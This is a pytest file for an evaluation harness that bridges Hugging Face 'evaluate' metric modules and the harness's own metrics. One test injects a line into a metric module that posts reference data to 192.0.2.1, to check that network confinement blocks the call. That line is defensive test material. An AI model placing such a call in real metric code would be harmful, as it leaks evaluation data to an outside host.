"""The `evaluate` library both ways: its modules as our metrics, and ours as its."""

from __future__ import annotations

import importlib
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from harness.base import network
from harness.errors import MissingTool, UsageError
from harness.metrics import as_evaluate, evaluate_metrics, evaluate_modules
from harness.metrics.base import Context, Metric, NotComputed, Samples, Statistics
from harness.metrics.labels import classification
from harness.metrics.texts import captions, summaries
from harness.stats.bootstrap import Bootstrap
from harness.stats.intervals import Interval
from tests.metrics import samples as made
from tests.stats.whole_sets import estimated

EXACT = """
import datasets
import evaluate

class Same(evaluate.Metric):
    def _info(self):
        return evaluate.MetricInfo(
            description="share of equal texts", citation="", inputs_description="",
            features=datasets.Features({"predictions": datasets.Value("string"), "references": datasets.Value("string")}))

    def _compute(self, predictions, references, lower=False):
        pairs = [(p.lower(), r.lower()) if lower else (p, r) for p, r in zip(predictions, references)]
        return {"same": sum(p == r for p, r in pairs) / len(pairs)}
"""
CLASSES = """
import datasets
import evaluate

class Classes(evaluate.Metric):
    def _info(self):
        return evaluate.MetricInfo(
            description="two results", citation="", inputs_description="",
            features=datasets.Features({"predictions": datasets.Value("int32"), "references": datasets.Value("int32")}))

    def _compute(self, predictions, references):
        return {"right": sum(p == r for p, r in zip(predictions, references)), "highest": max(predictions)}
"""
EACH = EXACT.replace('{"same": sum(p == r for p, r in pairs) / len(pairs)}', '{"same": [float(p == r) for p, r in pairs]}')


@pytest.fixture(autouse=True, scope="module")
def own_folders(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """The library copies modules into a package of its own before it imports them; Python imports a package once."""
    evaluate = evaluate_metrics.library()
    root = tmp_path_factory.mktemp("evaluate")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(evaluate.config, "HF_MODULES_CACHE", str(root / "modules"))
        patch.setattr(evaluate.config, "HF_METRICS_CACHE", str(root / "metrics"))
        patch.syspath_prepend(str(root / "modules"))
        patch.setenv("HF_HUB_OFFLINE", "1")
        _forget()
        yield
    _forget()


def _forget() -> None:
    """Let the library's package of modules be imported from the folder that is its own now."""
    for name in [name for name in sys.modules if name.partition(".")[0] == "evaluate_modules"]:
        del sys.modules[name]
    importlib.invalidate_caches()


@pytest.fixture
def written(tmp_path: Path) -> Any:
    def write(name: str, text: str) -> Path:
        (tmp_path / name).mkdir()
        (tmp_path / name / f"{name}.py").write_text(text, encoding="utf-8")
        return tmp_path / name

    return write


def samples(said: list[str | None], expected: list[str], groups: list[str] | None = None) -> Samples:
    return made.of(said, expected, groups=groups)


def interval(metric: Metric, given: Samples, *labels: str) -> Interval:
    return estimated(metric, metric.measure.run(given, Context(labels=labels)), groups=given.groups, plan=Bootstrap(resamples=200))


def test_a_module_of_this_machine_is_a_metric(written: Any) -> None:
    metric = evaluate_modules.from_evaluate(f"evaluate:{written('same', EXACT)}")
    found = interval(metric, samples(["a", "b", None, "D"], ["a", "x", "c", "d"]))
    assert found.value == 0.25  # of the four, "a" alone is equal
    assert (metric.name, metric.variant, metric.scope) == ("same", "evaluate", "whole set")


def test_the_interval_of_a_mean_is_the_bootstrap_of_its_samples(written: Any) -> None:
    metric = evaluate_modules.from_evaluate(str(written("same_mean", EXACT)))
    given = samples(["a", "b", "c", "d", "e", "f"], ["a", "b", "c", "x", "x", "f"], groups=["1", "1", "2", "2", "3", "4"])
    found = interval(metric, given)
    right = np.array([1.0, 1.0, 1.0, 0.0, 0.0, 1.0])
    plain = Metric(name="mean", variant="x", measure=metric.measure, value=lambda s, w: (w @ s.table[:, 1]) / (w @ s.table[:, 0]))
    table = Statistics(names=("n", "right"), table=np.column_stack([np.ones(6), right]))
    expected = estimated(plain, table, groups=given.groups, plan=Bootstrap(resamples=200))
    assert (found.value, found.low, found.high) == pytest.approx((expected.value, expected.low, expected.high), abs=1e-12)


def test_a_module_that_gives_a_value_per_sample_is_averaged(written: Any) -> None:
    metric = evaluate_modules.from_evaluate(str(written("each", EACH)))
    statistics = metric.measure.run(samples(["a", "b", "c", "d"], ["a", "b", "c", "x"]), Context())
    assert statistics.fixed["value"] == 0.75
    assert statistics.table[:, 1].tolist() == [0.25, 0.25, 0.25, -0.75]


def test_beyond_a_thousand_samples_there_is_a_value_and_no_interval(written: Any) -> None:
    metric = evaluate_modules.from_evaluate(str(written("large", EXACT)))
    found = interval(metric, samples(["a"] * 1001, ["a"] * 1001))
    assert (found.value, found.low, found.high) == (1.0, None, None)


def test_arguments_and_content_are_in_the_signature(written: Any) -> None:
    folder = written("arguments", EXACT)
    plain = evaluate_modules.from_evaluate(str(folder))
    lower = evaluate_modules.from_evaluate(f"evaluate:{folder}?lower=true")
    assert interval(lower, samples(["A", "b"], ["a", "b"])).value == 1.0
    assert interval(plain, samples(["A", "b"], ["a", "b"])).value == 0.5
    assert lower.variant == "evaluate-lower=true"
    assert "argument.lower:true" in lower.signature
    assert plain.measure.name != lower.measure.name
    (folder / "arguments.py").write_text(EXACT + "\n# changed\n", encoding="utf-8")
    assert evaluate_modules.from_evaluate(str(folder)).signature != plain.signature


def test_classes_are_given_as_numbers_and_an_unparsed_reply_is_none_of_them(written: Any) -> None:
    folder = written("classes", CLASSES)
    given = samples(["yes", None, "no"], ["yes", "no", "no"])
    assert interval(evaluate_modules.from_evaluate(f"{folder}#right"), given, "no", "yes").value == 2.0
    assert interval(evaluate_modules.from_evaluate(f"{folder}#highest"), given, "no", "yes").value == 2.0  # after no: 0 and yes: 1


def test_what_cannot_be_given_to_a_module_is_said(written: Any) -> None:
    folder = written("classes_only", CLASSES)
    with pytest.raises(NotComputed, match="int32, which this task does not give"):
        evaluate_modules.from_evaluate(f"{folder}#right").measure.run(samples(["a"], ["a"]), Context())
    with pytest.raises(UsageError, match=r"name one of them: .*#right"):
        evaluate_modules.from_evaluate(str(folder)).measure.run(samples(["a"], ["a"]), Context(labels=("a",)))


def test_code_runs_only_where_a_path_names_it(written: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    written("accuracy", 'raise RuntimeError("this must not run")')
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UsageError, match=r"write evaluate:\./accuracy"):
        evaluate_modules.from_evaluate("evaluate:accuracy")
    with pytest.raises(UsageError, match=r"there is no .*nothing/nothing\.py"):
        evaluate_modules.from_evaluate("evaluate:./nothing")


def test_a_module_that_calls_out_computes_nothing_while_rows_must_stay(written: Any) -> None:
    ask = "urllib.request.urlopen('http://192.0.2.1/', data=references[0].encode(), timeout=5)"
    text = EXACT.replace("import datasets", "import datasets\nimport urllib.request").replace(
        "        pairs =", f"        {ask}\n        pairs ="
    )
    metric = evaluate_modules.from_evaluate(str(written("calls_out", text)))
    with network.confined("a task"), pytest.raises(NotComputed, match=r"DataUseRefused: a task: .* asked for 192\.0\.2\.1"):
        metric.measure.run(samples(["a"], ["b"]), Context())


def test_offline_the_hub_is_not_asked() -> None:
    with pytest.raises(MissingTool, match="offline"):
        evaluate_modules.from_evaluate("evaluate:no-such-organisation/no-such-module")


@pytest.mark.parametrize(
    ("text", "name", "revision", "arguments", "key"),
    [
        ("evaluate:accuracy", "accuracy", "", {}, ""),
        ("evaluate:org/name@v1?average=macro&beta=2#f1", "org/name", "v1", {"average": "macro", "beta": 2}, "f1"),
        ("./a@b/metric?x=", "./a@b/metric", "", {"x": ""}, ""),
    ],
)
def test_a_name_is_read_in_parts(text: str, name: str, revision: str, arguments: dict[str, Any], key: str) -> None:
    spec = evaluate_modules.read(text)
    assert (spec.name, spec.revision, spec.arguments, spec.key) == (name, revision, arguments, key)


SAID = ["the heart is mildly enlarged", "no pleural effusion", "lungs are clear . 1 nodule", ""]
EXPECTED = ["the heart is enlarged", "there is no pleural effusion", "the lungs are clear", "no acute disease"]
OF_TEXTS = {
    metric.signature: metric
    for metric in (*captions.CAPTIONS, *captions.MULTIMEDEVAL, *summaries.SUMMARIES, *summaries.VARIANTS)
    if not metric.only_without
}.values()


def named(metric: Metric) -> Any:
    return pytest.param(metric, id=f"{metric.name}/{metric.variant}", marks=pytest.mark.java if metric.variant == "coco-ptb" else ())


@pytest.mark.usefixtures("few_paraphrases")
@pytest.mark.parametrize("metric", [named(metric) for metric in OF_TEXTS])
def test_each_of_ours_gives_in_evaluate_what_it_gives_in_a_run(metric: Metric) -> None:
    """A run's samples: an empty reply could not be read, and each is a group of its own."""
    expected = made.value(metric, made.texts([(text or None, reference) for text, reference in zip(SAID, EXPECTED, strict=True)]))
    theirs = evaluate_metrics.evaluate_metric(metric)
    assert theirs.compute(predictions=SAID, references=EXPECTED)[metric.name] == expected
    theirs.add_batch(predictions=SAID[:2], references=[[text] for text in EXPECTED[:2]])
    theirs.add_batch(predictions=SAID[2:], references=[[text] for text in EXPECTED[2:]])
    assert theirs.compute()[metric.name] == expected
    assert theirs.signature == metric.signature


def test_a_metric_of_classes_takes_the_labels() -> None:
    found = evaluate_metrics.evaluate_metric(classification.ACCURACY, labels=("yes", "no")).compute(
        predictions=["yes", "no", "maybe"], references=["yes", "yes", "no"]
    )
    assert found["accuracy"] == pytest.approx(1 / 3)  # "maybe" is none of the labels, and wrong


def test_a_metric_of_scores_is_refused() -> None:
    with pytest.raises(UsageError, match="made from scores"):
        evaluate_metrics.evaluate_metric(classification.AUC)


def test_a_metric_is_found_by_name_and_variant() -> None:
    texts = {"predictions": ["the lungs are clear"], "references": ["the lungs are clear"]}
    assert as_evaluate("rouge_l/stem").compute(**texts) == {"rouge_l": 1.0}
    assert as_evaluate("rouge_l", "stem").signature == as_evaluate(summaries.SUMMARIES[0]).signature
    with pytest.raises(UsageError, match=r"'rouge_l' is several metrics: rouge_l/coco-ptb"):
        as_evaluate("rouge_l")
    with pytest.raises(UsageError, match="unknown metric 'rouge_m'"):
        as_evaluate("rouge_m")
